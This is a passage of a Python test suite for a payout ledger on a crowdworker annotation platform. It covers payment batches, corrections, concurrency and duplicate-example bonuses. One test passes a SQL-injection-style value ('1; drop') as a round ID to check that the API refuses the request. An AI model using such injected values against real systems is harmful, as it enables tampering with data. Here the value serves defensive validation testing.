    assert "0 rows added" in computed.stdout and "7 events were paid already" in computed.stdout
    writers = str(_link_id(app, "writers"))
    created = run("batch", "create", "--task", TASK, "--link-id", writers)
    assert created.exit_code == 0, created.output
    assert created.stdout.splitlines()[0].startswith("# batch 1: link")
    # v1, v2 (the MTurk link's) and v4 (no study link) are named with where they are paid.
    assert "v1, v2: create a payout batch for study link" in created.stderr
    assert "v4: earned without a study session" in created.stderr
    # wanda 10 (E1), wes 10 (E4): no corrections here; the file is the batch's, every time.
    for _ in range(2):
        exported = run("batch", "file", "1", "--task", TASK)
        assert exported.exit_code == 0, exported.output
        assert exported.stdout == "5a0c0ffee0000000000000a1,0.10\n5b0c0ffee0000000000000b2,0.10\n"
    again = run("batch", "create", "--task", TASK, "--link-id", writers)
    assert again.exit_code == 1 and "nothing to pay" in again.output
    assert run("batch", "file", "1", "--task", "no-such-task").exit_code == 1
    assert run("batch", "paid", "1", "--task", TASK).exit_code == 0
    assert run("batch", "cancel", "1", "--task", TASK).exit_code == 1  # paid: never cancelled
    listed = run("batch", "list", "--task", TASK)
    assert "\tpaid\t2\t0.20\tGBP\t" in listed.stdout, listed.stdout
    entry_id = _entry_id(app, f"example:{hand.examples['E4']}")
    before = table_snapshot(app, "ledger_entries")
    wrong_task = run("correct", str(entry_id), "--amount", "5", "--reason", "x", "--task", "no-such-task")
    assert wrong_task.exit_code == 1
    assert run("correct", str(entry_id), "--amount", "0", "--reason", "x", "--task", TASK).exit_code == 1
    assert table_snapshot(app, "ledger_entries") == before
    corrected = run("correct", str(entry_id), "--amount", "5", "--reason", "late appeal", "--task", TASK)
    assert corrected.exit_code == 0, corrected.output
    shown = run("show", "--task", TASK, "--user-id", str(hand.users["wes"]))
    assert shown.exit_code == 0, shown.output
    assert f"correction:{entry_id}:1" in shown.stdout and shown.stdout.rstrip().endswith("total\t\t\t15")
    totals = run("show", "--task", TASK)
    assert totals.stdout.rstrip().endswith("total\t\t\t\t\t\t335")  # 330 + 5


@pytest.mark.parametrize("body", [{"round_id": -1}, {"round_id": 2**40}, {"round_id": "1; drop"}, {"everything": True}])
def test_a_bad_compute_request_is_refused_and_changes_nothing(
    client: TestClient, app: Any, hand: HandRound, body: dict[str, Any]
) -> None:
    counts = table_counts(app)
    response = client.post(f"{API}/tasks/{TASK}/ledger/compute", json=body, headers=hand.researcher.headers)
    assert response.status_code == 422, response.text
    assert table_counts(app) == counts
    huge = client.get(f"{API}/tasks/{TASK}/ledger/workers/{2**40}", headers=hand.researcher.headers)
    assert huge.status_code == 422
    nobody = client.get(f"{API}/tasks/{TASK}/ledger/workers/987654", headers=hand.researcher.headers)
    assert nobody.status_code == 404


def test_concurrent_corrections_each_get_their_own_number(app: Any, hand: HandRound) -> None:
    """Two researchers correcting one row at once: two rows, numbered 1 and 2, the row untouched."""
    entry_id = _entry_id(app, f"session:{hand.sessions['v1']}")
    before = table_snapshot(app, "ledger_entries")
    errors: list[BaseException] = []
    barrier = threading.Barrier(2)

    def correct(amount: int) -> None:
        try:
            barrier.wait(timeout=10)
            with session_scope(app.state.sessionmaker) as session:
                ledger.add_correction(session, None, ledger.get_entry(session, entry_id), amount, "double submit")
        except BaseException as exc:
            errors.append(exc)

    threads = [threading.Thread(target=correct, args=(amount,)) for amount in (-10, -20)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    assert not errors, errors
    after = table_snapshot(app, "ledger_entries")["ledger_entries"]
    assert after[: len(before["ledger_entries"])] == before["ledger_entries"]
    with session_scope(app.state.sessionmaker) as session:
        rows = session.scalars(select(LedgerEntry).where(LedgerEntry.corrects_id == entry_id)).all()
        assert sorted(r.event_key for r in rows) == [f"correction:{entry_id}:1", f"correction:{entry_id}:2"]
        assert sorted(r.amount_minor for r in rows) == [-20, -10]


def test_a_batch_with_a_label_that_no_longer_counts_earns_nothing_and_batches_keep_their_numbers(
    client: TestClient, app: Any, hand: HandRound
) -> None:
    """Batches are cut from every validation, counted or not: when a validator's labels stop
    counting (an unqualified validator), no other batch takes over its numbers."""
    u, r = hand.users, hand.round_id
    with session_scope(app.state.sessionmaker) as session:
        first = session.scalars(
            select(Validation).where(Validation.validator_id == u["v4"]).order_by(Validation.created_at, Validation.id)
        ).first()
        assert first is not None
        first.counted = False
    response = client.post(f"{API}/tasks/{TASK}/ledger/compute", json={}, headers=hand.researcher.headers)
    assert response.status_code == 200 and response.json()["entries_added"] == 0  # batch 0 was paid already
    with session_scope(app.state.sessionmaker) as session:
        session.execute(delete(LedgerEntry))  # a ledger computed afresh (the test's own shortcut)
    response = client.post(f"{API}/tasks/{TASK}/ledger/compute", json={}, headers=hand.researcher.headers)
    assert response.status_code == 200, response.text
    # v4's batch 0 now holds a label that does not count: unpaid. v1's and v2's keep their keys.
    assert _rows(app) == _expected(hand) - {("validator_bonus", f"batch:{r}:{u['v4']}:0", u["v4"], None, 20)}


def test_a_repeat_written_before_repeats_were_refused_earns_no_second_bonus(
    client: TestClient, app: Any, make_user: MakeUser, stub_model: ThreadedServer
) -> None:
    """The issue's reproduction, as data written before the rule holds it: two writers' examples
    with one sentence, both fooling and validated as intended. The writer of the example that
    holds the text (the first) gets the bonus; the repeat gets none (docs/design.md "Duplicates")."""
    researcher = make_user("rita", "researcher")
    round_ = open_round(
        client,
        researcher,
        example_yaml(TASK, onboarding_quiz=None, validation_batch_size=5, pay=PAY),
        stub_model.url,
        [f"Prompt {i}: the cafe on the corner serves lunch." for i in range(4)],
        target_label_mode="writer_choice",
    )
    wanda, wes = make_user("wanda", "writer"), make_user("wes", "writer")
    first = write_example(client, wanda, round_["id"], "negative", "A great way to make me wait an hour.")
    second = write_example(client, wes, round_["id"], "negative", "A great way to make me wait all day.")
    assert first["fooled"] and second["fooled"]
    # Before the rule the second writer could submit the same sentence: make it so, as the
    # migration's backfill would have hashed it (services/domain/duplicates.py).
    with session_scope(app.state.sessionmaker) as session:
        repeat = session.get(Example, second["id"])
        assert repeat is not None
        repeat.text = "a GREAT way to make me wait an hour"
        duplicates.normalize(repeat)
    for name in VALIDATORS:
        validator = make_user(name, "validator")
        for example in (first, second):
            response = label_example(client, validator, example["id"], "negative", round_id=round_["id"])
            assert response.status_code == 201, response.text
    response = client.post(
        f"{API}/tasks/{TASK}/ledger/compute", json={"round_id": round_["id"]}, headers=researcher.headers
    )
    assert response.status_code in (200, 201), response.text
    bonuses = {row[1]: row[2] for row in _rows(app) if row[0] == "writer_bonus"}
    ids = _user_ids(app)
    assert bonuses == {f"example:{first['id']}": ids["wanda"]}
